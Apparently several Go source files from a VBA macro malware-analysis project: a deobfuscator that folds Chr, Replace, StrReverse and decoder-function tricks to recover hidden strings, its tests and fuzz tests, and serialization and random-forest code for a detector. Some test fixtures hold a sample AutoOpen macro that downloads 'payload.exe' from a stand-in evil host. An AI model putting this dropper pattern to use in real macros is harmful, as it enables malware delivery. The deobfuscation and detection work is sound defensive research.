// Result is the outcome of deobfuscating one macro.
type Result struct {
	// Source is the rewritten macro text.
	Source string
	// Folds counts how many constant expressions were replaced.
	Folds int
	// Recovered lists the distinct string values materialized by folding,
	// in first-recovery order — the payload strings an analyst wants.
	Recovered []string
}

// Deobfuscate rewrites src with all provably-constant string expressions
// folded to their literal values. It iterates to a fixed point (a folded
// Replace() argument may enable an outer fold) with a small round cap.
func Deobfuscate(src string) Result {
	return deobfuscate(src, nil)
}

// DeobfuscateModule is Deobfuscate for an already-parsed module: the first
// folding round reuses m's token stream and procedure table instead of
// re-lexing m.Source. Later rounds operate on rewritten text and lex as
// usual.
func DeobfuscateModule(m *vba.Module) Result {
	return deobfuscate(m.Source, m)
}

func deobfuscate(src string, m *vba.Module) Result {
	res := Result{Source: src}
	seen := map[string]bool{}
	for round := 0; round < 8; round++ {
		out, folds, recovered := foldOnce(res.Source, m)
		m = nil // rewritten text needs a fresh lex on later rounds
		if folds == 0 {
			break
		}
		res.Source = out
		res.Folds += folds
		for _, s := range recovered {
			if !seen[s] {
				seen[s] = true
				res.Recovered = append(res.Recovered, s)
			}
		}
	}
	return res
}

// foldOnce performs one folding pass over every logical line. m, when
// non-nil, must be the parse of src and is reused instead of re-parsing.
func foldOnce(src string, m *vba.Module) (out string, folds int, recovered []string) {
	if m == nil {
		m = vba.Parse(src)
	}
	decoders := findDecoders(src, m)
	toks := m.Tokens
	starts := lineStartOffsets(src)

	type edit struct {
		start, end int
		text       string
	}
	var edits []edit

	// Scan expression spans: for every token position, try to parse the
	// longest constant string expression starting there.
	i := 0
	for i < len(toks) {
		t := toks[i]
		if t.Kind == vba.KindEOL || t.Kind == vba.KindComment {
			i++
			continue
		}
		val, end, ok := parseConstExpr(toks, i, decoders)
		// Only rewrite when folding actually simplifies: more than one
		// token consumed, or a single call folded.
		if ok && end > i+1 && isFoldWorthy(toks[i:end]) {
			startOff := tokenOffset(starts, toks[i])
			last := toks[end-1]
			endOff := tokenOffset(starts, last) + len(last.Text)
			if startOff >= 0 && endOff <= len(src) && startOff < endOff {
				edits = append(edits, edit{start: startOff, end: endOff, text: quote(val)})
				folds++
				recovered = append(recovered, val)
				i = end
				continue
			}
		}
		i++
	}
	if folds == 0 {
		return src, 0, nil
	}
	var sb strings.Builder
	prev := 0
	for _, e := range edits {
		if e.start < prev {
			continue
		}
		sb.WriteString(src[prev:e.start])
		sb.WriteString(e.text)
		prev = e.end
	}
	sb.WriteString(src[prev:])
	return sb.String(), folds, recovered
}

// isFoldWorthy reports whether folding the token span is a simplification
// (skips bare string literals, which are already folded).
func isFoldWorthy(span []vba.Token) bool {
	if len(span) == 1 && span[0].Kind == vba.KindString {
		return false
	}
	return true
}

// parseConstExpr parses the longest constant string expression starting at
// toks[i]: term (('&'|'+') term)* where each term is itself constant.
func parseConstExpr(toks []vba.Token, i int, decoders map[string]decoder) (string, int, bool) {
	val, end, ok := parseConstTerm(toks, i, decoders)
	if !ok {
		return "", i, false
	}
	for {
		// Optional continuation: (& | +) term — the lexer has already
		// fused line continuations, so chains spanning lines work too.
		if end < len(toks) && toks[end].Kind == vba.KindOperator &&
			(toks[end].Text == "&" || toks[end].Text == "+") {
			next, nend, ok := parseConstTerm(toks, end+1, decoders)
			if !ok {
				break
			}
			val += next
			end = nend
			continue
		}
		break
	}
	return val, end, true
}

// parseConstTerm parses one constant term: a string literal, Chr(n),
// ChrW(n), StrReverse(expr), Replace(expr, lit, lit), or decoder(Array(...)).
func parseConstTerm(toks []vba.Token, i int, decoders map[string]decoder) (string, int, bool) {
	if i >= len(toks) {
		return "", i, false
	}
	t := toks[i]
	switch t.Kind {
	case vba.KindString:
		return t.StringValue(), i + 1, true
	case vba.KindIdent, vba.KindKeyword:
		name := strings.ToLower(strings.TrimSuffix(t.Text, "$"))
		switch name {
		case "chr", "chrw", "chrb":
			if code, end, ok := parseIntCall(toks, i+1); ok {
				if code >= 0 && code <= 0x10FFFF {
					return string(rune(code)), end, true
				}
			}
		case "strreverse":
			if args, end, ok := parseArgs(toks, i+1, decoders, 1); ok {
				return reverse(args[0]), end, true
			}
		case "ucase":
			if args, end, ok := parseArgs(toks, i+1, decoders, 1); ok {
				return strings.ToUpper(args[0]), end, true
			}
		case "lcase":
			if args, end, ok := parseArgs(toks, i+1, decoders, 1); ok {
				return strings.ToLower(args[0]), end, true
			}
		case "replace":
			if args, end, ok := parseArgs(toks, i+1, decoders, 3); ok {
				return strings.ReplaceAll(args[0], args[1], args[2]), end, true
			}
		default:
			if dec, isDecoder := decoders[name]; isDecoder {
				if codes, end, ok := parseArrayCall(toks, i+1); ok {
					return dec.decode(codes), end, true
				}
			}
		}
	}
	return "", i, false
}

// parseIntCall parses "( <integer> )" starting at toks[i] and returns the
// integer value.
func parseIntCall(toks []vba.Token, i int) (int, int, bool) {
	if i+2 >= len(toks) ||
		toks[i].Kind != vba.KindPunct || toks[i].Text != "(" ||
		toks[i+1].Kind != vba.KindNumber ||
		toks[i+2].Kind != vba.KindPunct || toks[i+2].Text != ")" {
		return 0, i, false
	}
	n, err := parseVBANumber(toks[i+1].Text)
	if err != nil {
		return 0, i, false
	}
	return n, i + 3, true
}

// parseArgs parses "( expr {, expr} )" where each argument must be a
// constant string expression; exactly want arguments are required.
func parseArgs(toks []vba.Token, i int, decoders map[string]decoder, want int) ([]string, int, bool) {
	if i >= len(toks) || toks[i].Kind != vba.KindPunct || toks[i].Text != "(" {
		return nil, i, false
	}
	pos := i + 1
	var args []string
	for {
		val, end, ok := parseConstExpr(toks, pos, decoders)
		if !ok {
			return nil, i, false
		}
		args = append(args, val)
		pos = end
		if pos >= len(toks) || toks[pos].Kind != vba.KindPunct {
			return nil, i, false
		}
		switch toks[pos].Text {
		case ",":
			pos++
		case ")":
			if len(args) != want {
				return nil, i, false
			}
			return args, pos + 1, true
		default:
			return nil, i, false
		}
	}
}

// parseArrayCall parses "( Array( n {, n} ) )" and returns the codes.
func parseArrayCall(toks []vba.Token, i int) ([]int, int, bool) {
	if i+1 >= len(toks) ||
		toks[i].Kind != vba.KindPunct || toks[i].Text != "(" ||
		!(toks[i+1].Kind == vba.KindIdent || toks[i+1].Kind == vba.KindKeyword) ||
		!strings.EqualFold(toks[i+1].Text, "Array") {
		return nil, i, false
	}
	pos := i + 2
	if pos >= len(toks) || toks[pos].Text != "(" {
		return nil, i, false
	}
	pos++
	var codes []int
	for {
		if pos >= len(toks) {
			return nil, i, false
		}
		if toks[pos].Kind != vba.KindNumber {
			return nil, i, false
		}
		n, err := parseVBANumber(toks[pos].Text)
		if err != nil {
			return nil, i, false
		}
		codes = append(codes, n)
		pos++
		if pos >= len(toks) || toks[pos].Kind != vba.KindPunct {
			return nil, i, false
		}
		switch toks[pos].Text {
		case ",":
			pos++
		case ")":
			// Expect the closing paren of the call too.
			if pos+1 < len(toks) && toks[pos+1].Kind == vba.KindPunct && toks[pos+1].Text == ")" {
				return codes, pos + 2, true
			}
			return nil, i, false
		default:
			return nil, i, false
		}
	}
}

// parseVBANumber parses decimal and &H/&O radix literals with optional
// type suffix.
func parseVBANumber(text string) (int, error) {
	s := strings.TrimRight(text, "%&!#@^")
	switch {
	case strings.HasPrefix(s, "&H"), strings.HasPrefix(s, "&h"):
		v, err := strconv.ParseInt(s[2:], 16, 64)
		return int(v), err
	case strings.HasPrefix(s, "&O"), strings.HasPrefix(s, "&o"):
		v, err := strconv.ParseInt(s[2:], 8, 64)
		return int(v), err
	default:
		v, err := strconv.ParseInt(s, 10, 64)
		return int(v), err
	}
}

func reverse(s string) string {
	runes := []rune(s)
	for i, j := 0, len(runes)-1; i < j; i, j = i+1, j-1 {
		runes[i], runes[j] = runes[j], runes[i]
	}
	return string(runes)
}

// quote renders a folded value as a VBA string literal.
func quote(s string) string {
	return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
}

func lineStartOffsets(src string) []int {
	starts := []int{0}
	for i := 0; i < len(src); i++ {
		if src[i] == '\n' {
			starts = append(starts, i+1)
		}
	}
	return starts
}

func tokenOffset(starts []int, t vba.Token) int {
	if t.Line-1 >= len(starts) {
		return -1
	}
	return starts[t.Line-1] + t.Col - 1
}

// decoder is a recognized self-contained numeric decoder function:
// For i = LBound..UBound: acc = acc & Chr(arr(i) - key).
type decoder struct {
	key int
	op  byte // '-' or '+': Chr(arr(i) op key)
}

func (d decoder) decode(codes []int) string {
	var sb strings.Builder
	for _, c := range codes {
		v := c
		if d.op == '-' {
			v = c - d.key
		} else {
			v = c + d.key
		}
		if v >= 0 && v <= 0x10FFFF {
			sb.WriteRune(rune(v))
		}
	}
	return sb.String()
}

// findDecoders scans the module for user-defined decoder functions of the
// shape produced by O3 EncodeDecoder obfuscation (and common in real
// malware): a loop appending Chr(arr(i) ± key).
func findDecoders(src string, m *vba.Module) map[string]decoder {
	out := map[string]decoder{}
	lines := strings.Split(src, "\n")
	for _, p := range m.Procedures {
		if p.Kind != "Function" {
			continue
		}
		if p.StartLine < 1 || p.EndLine > len(lines) {
			continue
		}
		body := strings.Join(lines[p.StartLine-1:p.EndLine], "\n")
		if !strings.Contains(body, "UBound") || !strings.Contains(body, "Chr") {
			continue
		}
		key, op, ok := extractDecoderKey(body)
		if !ok {
			continue
		}
		out[strings.ToLower(p.Name)] = decoder{key: key, op: op}
	}
	return out
}

// extractDecoderKey finds the `Chr(x(i) - NNN)` (or +) pattern in a
// decoder body and returns the key and operator.
func extractDecoderKey(body string) (int, byte, bool) {
	toks := vba.Lex(body)
	for i := 0; i+6 < len(toks); i++ {
		// Chr ( ident ( ident ) OP number )
		if !(toks[i].Kind == vba.KindIdent || toks[i].Kind == vba.KindKeyword) ||
			!strings.EqualFold(strings.TrimSuffix(toks[i].Text, "$"), "Chr") {
			continue
		}
		j := i + 1
		if j >= len(toks) || toks[j].Text != "(" {
			continue
		}
		// Skip the inner array indexing: ident ( ident )
		j++
		if j+3 >= len(toks) || toks[j].Kind != vba.KindIdent ||
			toks[j+1].Text != "(" || toks[j+2].Kind != vba.KindIdent || toks[j+3].Text != ")" {
			continue
		}
		j += 4
		if j+1 >= len(toks) || toks[j].Kind != vba.KindOperator {
			continue
		}
		op := toks[j].Text
		if op != "-" && op != "+" {
			continue
		}
		if toks[j+1].Kind != vba.KindNumber {
			continue
		}
		key, err := parseVBANumber(toks[j+1].Text)
		if err != nil {
			continue
		}
		return key, op[0], true
	}
	return 0, 0, false
}
