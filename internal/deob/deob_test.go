package deob

import (
	"strings"
	"testing"

	"repro/internal/obfuscate"
)

func TestFoldConcatenation(t *testing.T) {
	src := `x = "WScr" + "ipt.Sh" & "ell"` + "\n"
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"WScript.Shell"`) {
		t.Errorf("source = %q", res.Source)
	}
	if res.Folds == 0 {
		t.Error("no folds counted")
	}
	if len(res.Recovered) == 0 || res.Recovered[len(res.Recovered)-1] != "WScript.Shell" {
		t.Errorf("recovered = %q", res.Recovered)
	}
}

func TestFoldChrChain(t *testing.T) {
	src := `u = Chr(104) & Chr(116) & Chr(116) & Chr(112)` + "\n"
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"http"`) {
		t.Errorf("source = %q", res.Source)
	}
}

func TestFoldChrChainWithContinuation(t *testing.T) {
	src := "u = Chr(104) & Chr(116) & _\n    Chr(116) & Chr(112)\n"
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"http"`) {
		t.Errorf("source = %q", res.Source)
	}
}

func TestFoldReplace(t *testing.T) {
	src := `s = Replace("savteRKtofilteRK", "teRK", "e")` + "\n"
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"savetofile"`) {
		t.Errorf("source = %q", res.Source)
	}
}

func TestFoldStrReverseAndCase(t *testing.T) {
	cases := map[string]string{
		`a = StrReverse("lleh")`: `"hell"`,
		`b = UCase("shell")`:     `"SHELL"`,
		`c = LCase("SHELL")`:     `"shell"`,
	}
	for src, want := range cases {
		res := Deobfuscate(src + "\n")
		if !strings.Contains(res.Source, want) {
			t.Errorf("Deobfuscate(%q) = %q, want contains %s", src, res.Source, want)
		}
	}
}

func TestFoldNested(t *testing.T) {
	// Replace argument is itself a concatenation; needs two rounds.
	src := `s = Replace("sav" & "eXXtoXXfile", "XX", "")` + "\n"
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"savetofile"`) {
		t.Errorf("source = %q", res.Source)
	}
}

func TestFoldDecoderFunction(t *testing.T) {
	src := `Sub Go()
    url = d(Array(1904, 1916, 1916, 1912))
End Sub
Private Function d(a As Variant) As String
    Dim i As Long
    Dim s As String
    For i = LBound(a) To UBound(a)
        s = s & Chr(a(i) - 1800)
    Next i
    d = s
End Function
`
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"http"`) {
		t.Errorf("decoder not folded:\n%s", res.Source)
	}
}

func TestDoesNotFoldNonConstant(t *testing.T) {
	src := "x = a & \"b\"\ny = Chr(n)\nz = Replace(s, \"a\", \"b\")\n"
	res := Deobfuscate(src)
	if res.Folds != 0 {
		t.Errorf("folded non-constant expressions: %q", res.Source)
	}
	if res.Source != src {
		t.Errorf("source changed: %q", res.Source)
	}
}

func TestQuoteEscaping(t *testing.T) {
	src := `x = Chr(34) & "quoted" & Chr(34)` + "\n"
	res := Deobfuscate(src)
	if !strings.Contains(res.Source, `"""quoted"""`) {
		t.Errorf("source = %q", res.Source)
	}
	// The folded output must survive a re-lex round trip.
	res2 := Deobfuscate(res.Source)
	if res2.Folds != 0 {
		t.Errorf("second pass still folding: %q", res2.Source)
	}
}

func TestRoundTripAgainstObfuscator(t *testing.T) {
	plain := `Sub AutoOpen()
    Dim target As String
    target = "http://evil.example/payload.exe"
    Call Fetch("URLDownloadToFile", target, "C:\Users\Public\run.exe")
End Sub
`
	modes := []obfuscate.Options{
		{Seed: 1, Split: true, Indent: obfuscate.IndentKeep},
		{Seed: 2, Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
		{Seed: 3, Encode: true, Mode: obfuscate.EncodeReplace, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
		{Seed: 4, Encode: true, Mode: obfuscate.EncodeDecoder, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
		{Seed: 5, Split: true, Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
	}
	for _, opts := range modes {
		obf := obfuscate.Apply(plain, opts)
		if strings.Contains(obf, `"http://evil.example/payload.exe"`) {
			t.Fatalf("seed %d: obfuscation did not hide the URL", opts.Seed)
		}
		res := Deobfuscate(obf)
		if !strings.Contains(res.Source, "http://evil.example/payload.exe") {
			t.Errorf("seed %d: URL not recovered.\nobf:\n%s\ndeob:\n%s", opts.Seed, obf, res.Source)
		}
		// Backslash paths must survive exactly: VBA strings have no
		// backslash escaping (regression test for the %q quoting bug).
		if !strings.Contains(res.Source, `C:\Users\Public\run.exe`) {
			t.Errorf("seed %d: path not recovered verbatim.\ndeob:\n%s", opts.Seed, res.Source)
		}
	}
}

func TestRecoveredListsPayloads(t *testing.T) {
	src := `u = "pow" & "ershell"` + "\n" + `v = Chr(101) & Chr(120) & Chr(101)` + "\n"
	res := Deobfuscate(src)
	joined := strings.Join(res.Recovered, "|")
	if !strings.Contains(joined, "powershell") || !strings.Contains(joined, "exe") {
		t.Errorf("recovered = %q", res.Recovered)
	}
}

func TestParseVBANumber(t *testing.T) {
	cases := map[string]int{
		"42": 42, "&H1F": 31, "&h10": 16, "&O17": 15, "100&": 100, "7%": 7,
	}
	for in, want := range cases {
		got, err := parseVBANumber(in)
		if err != nil || got != want {
			t.Errorf("parseVBANumber(%q) = %d, %v; want %d", in, got, err, want)
		}
	}
	if _, err := parseVBANumber("xyz"); err == nil {
		t.Error("garbage number accepted")
	}
}

func TestDeobfuscateIdempotent(t *testing.T) {
	src := `x = "WScr" + "ipt" & Chr(46) & Replace("ShellXX", "XX", "")` + "\n"
	first := Deobfuscate(src)
	second := Deobfuscate(first.Source)
	if second.Folds != 0 {
		t.Errorf("not idempotent: %q -> %q", first.Source, second.Source)
	}
	if !strings.Contains(first.Source, `"WScript.Shell"`) {
		t.Errorf("combined fold failed: %q", first.Source)
	}
}

func BenchmarkDeobfuscate(b *testing.B) {
	plain := strings.Repeat(`Sub A()
    x = "http://example.test/path"
    y = "C:\Users\Public\file.exe"
End Sub
`, 5)
	obf := obfuscate.Apply(plain, obfuscate.Options{
		Seed: 1, Split: true, Encode: true, Mode: obfuscate.EncodeChr,
		EncodeFraction: 1, Indent: obfuscate.IndentKeep,
	})
	b.SetBytes(int64(len(obf)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Deobfuscate(obf)
	}
}
