package deob

import (
	"testing"

	"repro/internal/faultinject"
)

// FuzzDeobfuscate asserts safety and idempotence-on-second-pass for
// arbitrary input, seeded with bit-flipped mutants of an obfuscated macro
// so the fuzzer starts inside the fold/rename machinery.
func FuzzDeobfuscate(f *testing.F) {
	f.Add(`x = "a" & Chr(66) & Replace("cXd", "X", "")` + "\n")
	f.Add("Sub A()\nEnd Sub")
	f.Add("")
	obf := `Sub Go()` + "\n" +
		`s = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://" & StrReverse("moc.live")` + "\n" +
		`u = Replace("xAxBxC", "x", "")` + "\n" +
		`End Sub` + "\n"
	f.Add(obf)
	for _, c := range faultinject.BitFlips([]byte(obf), 45, 6) {
		f.Add(string(c.Data))
	}
	f.Fuzz(func(t *testing.T, src string) {
		res := Deobfuscate(src)
		second := Deobfuscate(res.Source)
		if second.Folds != 0 {
			t.Fatalf("not idempotent: %q -> %q -> %q", src, res.Source, second.Source)
		}
	})
}
