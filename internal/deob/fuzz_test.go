package deob

import "testing"

// FuzzDeobfuscate asserts safety and idempotence-on-second-pass for
// arbitrary input.
func FuzzDeobfuscate(f *testing.F) {
	f.Add(`x = "a" & Chr(66) & Replace("cXd", "X", "")` + "\n")
	f.Add("Sub A()\nEnd Sub")
	f.Add("")
	f.Fuzz(func(t *testing.T, src string) {
		res := Deobfuscate(src)
		second := Deobfuscate(res.Source)
		if second.Folds != 0 {
			t.Fatalf("not idempotent: %q -> %q -> %q", src, res.Source, second.Source)
		}
	})
}
