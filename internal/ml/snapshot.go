package ml

import (
	"encoding/json"
	"errors"
	"fmt"
)

// Model (de)serialization: Save captures any fitted classifier from this
// package into a self-describing JSON blob; Load restores it. This is what
// lets a trained detector ship without its training corpus.

// Save serializes a fitted classifier.
func Save(c Classifier) ([]byte, error) {
	var payload any
	var kind string
	switch v := c.(type) {
	case *Scaled:
		inner, err := Save(v.Inner)
		if err != nil {
			return nil, err
		}
		kind = "scaled"
		payload = scaledState{Scaler: v.scaler, Inner: inner, Fitted: v.fitted}
	case *SVM:
		kind = "svm"
		payload = svmState{
			C: v.C, Gamma: v.Gamma, B: v.b,
			Vectors: v.vectors, Coef: v.coef, Fitted: v.fitted,
		}
	case *RandomForest:
		kind = "rf"
		trees := make([]*nodeState, len(v.ensemble))
		for i, t := range v.ensemble {
			trees[i] = snapshotNode(t.root)
		}
		payload = rfState{Trees: trees, Fitted: v.fitted}
	case *DecisionTree:
		kind = "tree"
		payload = treeState{Root: snapshotNode(v.root), Fitted: v.fitted}
	case *MLP:
		kind = "mlp"
		payload = mlpState{W1: v.w1, B1: v.b1, W2: v.w2, B2: v.b2, Fitted: v.fitted}
	case *LDA:
		kind = "lda"
		payload = ldaState{W: v.w, Bias: v.bias, Fitted: v.fitted}
	case *Logit:
		kind = "logit"
		payload = logitState{W: v.w, B: v.b, LR: v.LR, Iters: v.Iters, L2: v.L2, Fitted: v.fitted}
	case *Stacked:
		kind = "stack"
		bases := make([]json.RawMessage, len(v.bases))
		for i, rf := range v.bases {
			blob, err := Save(rf)
			if err != nil {
				return nil, err
			}
			bases[i] = blob
		}
		var combiner json.RawMessage
		if v.combiner != nil {
			blob, err := Save(v.combiner)
			if err != nil {
				return nil, err
			}
			combiner = blob
		}
		payload = stackState{
			Channels: v.ChannelNames, Dims: v.Dims, Trees: v.Trees,
			Folds: v.Folds, Seed: v.Seed,
			Bases: bases, Combiner: combiner, Fitted: v.fitted,
		}
	case *BernoulliNB:
		kind = "bnb"
		payload = bnbState{
			Thresholds: v.thresholds,
			LogPrior:   v.logPrior[:],
			LogProb:    [][]float64{v.logProb[0], v.logProb[1]},
			LogNot:     [][]float64{v.logNot[0], v.logNot[1]},
			Fitted:     v.fitted,
		}
	default:
		return nil, fmt.Errorf("ml: cannot serialize classifier type %T", c)
	}
	body, err := json.Marshal(payload)
	if err != nil {
		return nil, err
	}
	return json.Marshal(envelope{Kind: kind, Body: body})
}

// Load restores a classifier saved with Save.
func Load(data []byte) (Classifier, error) {
	var env envelope
	if err := json.Unmarshal(data, &env); err != nil {
		return nil, fmt.Errorf("ml: bad model envelope: %w", err)
	}
	switch env.Kind {
	case "scaled":
		var st scaledState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		inner, err := Load(st.Inner)
		if err != nil {
			return nil, err
		}
		return &Scaled{Inner: inner, scaler: st.Scaler, fitted: st.Fitted}, nil
	case "svm":
		var st svmState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		return &SVM{C: st.C, Gamma: st.Gamma, b: st.B, vectors: st.Vectors, coef: st.Coef, fitted: st.Fitted}, nil
	case "rf":
		var st rfState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		rf := &RandomForest{fitted: st.Fitted}
		for _, ts := range st.Trees {
			rf.ensemble = append(rf.ensemble, restoreTree(ts, true))
		}
		if rf.fitted {
			// Loaded models serve inference only, so build the compiled
			// engine eagerly; on the rare non-compilable ensemble the
			// flattened-array walk keeps working.
			_ = rf.Compile()
		}
		return rf, nil
	case "tree":
		var st treeState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		return restoreTree(st.Root, st.Fitted), nil
	case "mlp":
		var st mlpState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		return &MLP{w1: st.W1, b1: st.B1, w2: st.W2, b2: st.B2, fitted: st.Fitted}, nil
	case "lda":
		var st ldaState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		return &LDA{w: st.W, bias: st.Bias, fitted: st.Fitted}, nil
	case "logit":
		var st logitState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		return &Logit{LR: st.LR, Iters: st.Iters, L2: st.L2, w: st.W, b: st.B, fitted: st.Fitted}, nil
	case "stack":
		var st stackState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		s := &Stacked{
			ChannelNames: st.Channels, Dims: st.Dims, Trees: st.Trees,
			Folds: st.Folds, Seed: st.Seed, fitted: st.Fitted,
		}
		if len(st.Bases) != len(st.Dims) {
			return nil, fmt.Errorf("ml: stack has %d bases for %d channels", len(st.Bases), len(st.Dims))
		}
		for i, blob := range st.Bases {
			inner, err := Load(blob)
			if err != nil {
				return nil, fmt.Errorf("ml: stack base %d: %w", i, err)
			}
			rf, ok := inner.(*RandomForest)
			if !ok {
				return nil, fmt.Errorf("ml: stack base %d is %T, want forest", i, inner)
			}
			s.bases = append(s.bases, rf)
		}
		if len(st.Combiner) > 0 {
			inner, err := Load(st.Combiner)
			if err != nil {
				return nil, fmt.Errorf("ml: stack combiner: %w", err)
			}
			lg, ok := inner.(*Logit)
			if !ok {
				return nil, fmt.Errorf("ml: stack combiner is %T, want logit", inner)
			}
			s.combiner = lg
		}
		if s.fitted && s.combiner == nil {
			return nil, errors.New("ml: fitted stack without combiner")
		}
		return s, nil
	case "bnb":
		var st bnbState
		if err := json.Unmarshal(env.Body, &st); err != nil {
			return nil, err
		}
		b := &BernoulliNB{thresholds: st.Thresholds, fitted: st.Fitted}
		if len(st.LogPrior) == 2 && len(st.LogProb) == 2 && len(st.LogNot) == 2 {
			copy(b.logPrior[:], st.LogPrior)
			b.logProb[0], b.logProb[1] = st.LogProb[0], st.LogProb[1]
			b.logNot[0], b.logNot[1] = st.LogNot[0], st.LogNot[1]
		} else {
			return nil, errors.New("ml: malformed bnb state")
		}
		return b, nil
	default:
		return nil, fmt.Errorf("ml: unknown model kind %q", env.Kind)
	}
}

type envelope struct {
	Kind string          `json:"kind"`
	Body json.RawMessage `json:"body"`
}

type scaledState struct {
	Scaler StandardScaler  `json:"scaler"`
	Inner  json.RawMessage `json:"inner"`
	Fitted bool            `json:"fitted"`
}

type svmState struct {
	C       float64     `json:"c"`
	Gamma   float64     `json:"gamma"`
	B       float64     `json:"b"`
	Vectors [][]float64 `json:"vectors"`
	Coef    []float64   `json:"coef"`
	Fitted  bool        `json:"fitted"`
}

type rfState struct {
	Trees  []*nodeState `json:"trees"`
	Fitted bool         `json:"fitted"`
}

type treeState struct {
	Root   *nodeState `json:"root"`
	Fitted bool       `json:"fitted"`
}

type nodeState struct {
	Feature   int        `json:"f"`
	Threshold float64    `json:"t"`
	Prob      float64    `json:"p"`
	Left      *nodeState `json:"l,omitempty"`
	Right     *nodeState `json:"r,omitempty"`
}

type mlpState struct {
	W1     [][]float64 `json:"w1"`
	B1     []float64   `json:"b1"`
	W2     []float64   `json:"w2"`
	B2     float64     `json:"b2"`
	Fitted bool        `json:"fitted"`
}

type ldaState struct {
	W      []float64 `json:"w"`
	Bias   float64   `json:"bias"`
	Fitted bool      `json:"fitted"`
}

type logitState struct {
	W      []float64 `json:"w"`
	B      float64   `json:"b"`
	LR     float64   `json:"lr"`
	Iters  int       `json:"iters"`
	L2     float64   `json:"l2"`
	Fitted bool      `json:"fitted"`
}

type stackState struct {
	Channels []string          `json:"channels"`
	Dims     []int             `json:"dims"`
	Trees    int               `json:"trees"`
	Folds    int               `json:"folds"`
	Seed     int64             `json:"seed"`
	Bases    []json.RawMessage `json:"bases"`
	Combiner json.RawMessage   `json:"combiner,omitempty"`
	Fitted   bool              `json:"fitted"`
}

type bnbState struct {
	Thresholds []float64   `json:"thresholds"`
	LogPrior   []float64   `json:"logPrior"`
	LogProb    [][]float64 `json:"logProb"`
	LogNot     [][]float64 `json:"logNot"`
	Fitted     bool        `json:"fitted"`
}

func snapshotNode(n *treeNode) *nodeState {
	if n == nil {
		return nil
	}
	return &nodeState{
		Feature:   n.feature,
		Threshold: n.threshold,
		Prob:      n.prob,
		Left:      snapshotNode(n.left),
		Right:     snapshotNode(n.right),
	}
}

// restoreTree rebuilds a DecisionTree from its serialized root and packs
// the flat scoring arrays so a loaded model takes the same hot path as a
// freshly fitted one.
func restoreTree(s *nodeState, fitted bool) *DecisionTree {
	t := &DecisionTree{root: restoreNode(s), fitted: fitted}
	t.flatten()
	return t
}

func restoreNode(s *nodeState) *treeNode {
	if s == nil {
		return nil
	}
	return &treeNode{
		feature:   s.Feature,
		threshold: s.Threshold,
		prob:      s.Prob,
		left:      restoreNode(s.Left),
		right:     restoreNode(s.Right),
	}
}
