package ml

import (
	"math"
	"math/rand"
)

// RandomForest is a bagging ensemble of CART trees with per-split feature
// subsampling (√d features per split, scikit-learn's classifier default).
type RandomForest struct {
	// Trees is the ensemble size (default 100, scikit-learn's default).
	Trees int
	// MaxDepth limits individual trees (0 = unlimited).
	MaxDepth int
	// MinSamplesLeaf is the per-leaf minimum (default 1).
	MinSamplesLeaf int
	// Seed drives bootstrapping and feature subsampling.
	Seed int64

	ensemble []*DecisionTree
	fitted   bool
}

// NewRandomForest returns a forest with the scikit-learn-like defaults the
// paper's pipeline uses.
func NewRandomForest(seed int64) *RandomForest {
	return &RandomForest{Trees: 100, Seed: seed}
}

// Name implements Classifier.
func (f *RandomForest) Name() string { return "RF" }

// Fit trains the ensemble on bootstrap resamples of (X, y).
func (f *RandomForest) Fit(X [][]float64, y []int) error {
	d, err := validate(X, y)
	if err != nil {
		return err
	}
	if f.Trees == 0 {
		f.Trees = 100
	}
	maxFeatures := int(math.Sqrt(float64(d)))
	if maxFeatures < 1 {
		maxFeatures = 1
	}
	rng := rand.New(rand.NewSource(f.Seed))
	n := len(X)
	f.ensemble = make([]*DecisionTree, f.Trees)
	for t := range f.ensemble {
		idx := make([]int, n)
		for i := range idx {
			idx[i] = rng.Intn(n)
		}
		tree := &DecisionTree{
			MaxDepth:       f.MaxDepth,
			MinSamplesLeaf: f.MinSamplesLeaf,
			MaxFeatures:    maxFeatures,
		}
		tree.fitIndexed(X, y, idx, rng)
		f.ensemble[t] = tree
	}
	f.fitted = true
	return nil
}

// Score returns the mean positive probability across trees.
func (f *RandomForest) Score(x []float64) float64 {
	if !f.fitted || len(f.ensemble) == 0 {
		return 0
	}
	sum := 0.0
	for _, t := range f.ensemble {
		sum += t.Score(x)
	}
	return sum / float64(len(f.ensemble))
}

// Predict implements Classifier.
func (f *RandomForest) Predict(x []float64) int {
	if f.Score(x) >= 0.5 {
		return Positive
	}
	return Negative
}

// Importances returns the forest's per-feature Gini importances: the mean
// of the trees' normalized importances, normalized to sum to 1 (nil
// before Fit).
func (f *RandomForest) Importances() []float64 {
	if !f.fitted || len(f.ensemble) == 0 {
		return nil
	}
	var acc []float64
	for _, t := range f.ensemble {
		imp := t.Importances()
		if imp == nil {
			continue
		}
		if acc == nil {
			acc = make([]float64, len(imp))
		}
		for i, v := range imp {
			acc[i] += v
		}
	}
	return normalizeImportance(acc)
}
