package ml

import (
	"math"
	"math/rand"
	"runtime"
	"sync"
	"sync/atomic"
)

// RandomForest is a bagging ensemble of CART trees with per-split feature
// subsampling (√d features per split, scikit-learn's classifier default).
type RandomForest struct {
	// Trees is the ensemble size (default 100, scikit-learn's default).
	Trees int
	// MaxDepth limits individual trees (0 = unlimited).
	MaxDepth int
	// MinSamplesLeaf is the per-leaf minimum (default 1).
	MinSamplesLeaf int
